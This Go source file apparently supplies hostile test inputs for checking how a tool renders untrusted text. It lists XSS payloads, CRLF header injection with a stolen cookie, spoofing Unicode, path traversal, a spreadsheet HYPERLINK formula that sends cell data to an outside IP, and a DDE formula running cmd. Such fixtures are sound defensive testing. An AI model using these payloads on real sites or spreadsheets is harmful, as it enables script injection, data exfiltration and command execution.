package main

import "strings"

// marked is what every script here would set: a page in which it is set has run one.
const marked = "window.__mirrorwatchRan"

// Of each kind of harm one.
const (
	script   = `<script>` + marked + `='script'</script>`
	image    = `<img src=x onerror="` + marked + `='image'">`
	vector   = `"><svg onload=` + marked + `='svg'>`
	frame    = `</td></table></div><iframe srcdoc="<script>parent.__mirrorwatchRan=1</script>"></iframe><h1>Signed out</h1>`
	style    = `<style>*{display:none!important}</style>`
	link     = `javascript:` + marked + `='link'//`
	data     = `data:text/html,<script>` + marked + `='data'</script>`
	template = `{{constructor.constructor("` + marked + `='template'")()}}${` + marked + `='literal'}`
	control  = "nul\x00bell\x07esc\x1b[31;1mred\x1b[0m\x1b]0;title\x07back\x08\x08\x7f"
	lines    = "one\r\nSet-Cookie: session=stolen\r\n\r\ntwo"
	reversed = "invoice\u202efdp.exe\u2066\u2067mirrored\u2069"
	hidden   = "pay\u200bpal\u200d\ufeff\u00ad.example"
	arabic   = "مرحبا-שלום-admin"
	piled    = "Z\u0351\u036b\u0343\u036a\u0302\u0328\u0334\u0353\u0355\u0359\u031c\u0319a\u0349\u0355\u0348\u0324\u033ca\u0301\u034c\u035bl\u0316\u0321go"
	wide     = "﷽﷽﷽𒐫𒐫꧅꧅"
	noText   = "caf\xe9 \xff\xfe\xc0\xaf\xed\xa0\x80"
	formula  = `=HYPERLINK("http://203.0.113.99/?"&A1,"open")`
	command  = `=cmd|'/C calc'!A0`
	climb    = `..\..\..\Windows\System32\` + "\u202e" + `exe.cod`
)

// long is a word of n letters: nothing in it lets a line break.
func long(n int) string { return strings.Repeat("Wm", n/2) }

// hostile lists them all, for fields of any length.
func hostile() []string {
	return []string{
		script, image, vector, frame, style, link, data, template, control, lines, reversed, hidden, arabic, piled, wide, noText, formula, command, climb, long(10_000),
	}
}

// short lists them cut to n bytes, without the line ends that a protocol of lines would take for its own.
func short(n int) []string {
	list := hostile()
	for i, s := range list {
		s = strings.NewReplacer("\r\n", "\v", "\x00", "\x01").Replace(s)
		list[i] = s[:min(n, len(s))]
	}
	return list
}
